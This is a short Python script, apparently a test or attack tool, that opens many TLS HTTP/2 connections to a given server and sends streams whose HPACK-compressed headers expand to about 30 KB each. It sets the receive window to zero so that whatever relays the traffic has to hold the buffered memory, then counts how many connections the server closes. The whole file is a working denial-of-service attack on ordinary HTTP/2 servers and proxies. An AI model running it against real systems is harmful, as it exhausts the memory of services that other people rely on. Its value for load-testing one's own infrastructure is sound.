#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# A client of HTTP/2 that makes whoever relays for it hold as much as it can:
# h2grab.py ADDRESS PORT NAME CA PATH CONNECTIONS STREAMS.  Each stream asks
# with a head of 30 KB, which costs it some bytes (RFC 7541), and gives its
# answer a window of nothing.  Says how many connections it holds, waits for
# the end of its input, then says how many of them were ended by the other
# side.
import resource
import select
import socket
import ssl
import struct
import sys

addr, port, name, ca, path, connections, streams = sys.argv[1:8]
connections, streams = int(connections), int(streams)
resource.setrlimit(resource.RLIMIT_NOFILE, (connections + 100,) * 2)
ctx = ssl.create_default_context(cafile=ca)
ctx.set_alpn_protocols(["h2"])


def frame(kind, flags, stream, data=b""):
    return struct.pack(">I", len(data))[1:] + struct.pack(
        ">BBI", kind, flags, stream) + data


def text(s):
    if len(s) < 127:
        return bytes([len(s)]) + s
    rest, out = len(s) - 127, b"\x7f"
    while rest > 127:
        out += bytes([rest % 128 + 128])
        rest //= 128
    return out + bytes([rest]) + s


# GET, https, :authority, :path; then one field that enters the table, and is
# named seven times more
ask = b"\x82\x87\x41" + text(name.encode()) + b"\x04" + text(path.encode())
again = b"\x82\x87\xbf\x04" + text(path.encode()) + b"\xbe" * 8
first = ask + b"\x40" + text(b"x-a") + text(b"a" * 3700) + b"\xbe" * 7
held = []
for _ in range(connections):
    try:
        s = ctx.wrap_socket(socket.create_connection((addr, int(port)), 10),
                            server_hostname=name)
        out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(
            4, 0, 0, struct.pack(">HI", 4, 0))
        for i in range(streams):
            out += frame(1, 5, 2 * i + 1, first if i == 0 else again)
        s.sendall(out)
        held.append(s)
    except OSError:             # refused, or ended meanwhile
        pass
print(len(held), "held", flush=True)
sys.stdin.read()
over = 0
for s in held:
    s.setblocking(False)
    try:
        while select.select([s], [], [], 0)[0]:
            if not s.recv(65536):
                over += 1
                break
    except ssl.SSLWantReadError:
        pass
    except OSError:
        over += 1
print(over, "ended", flush=True)
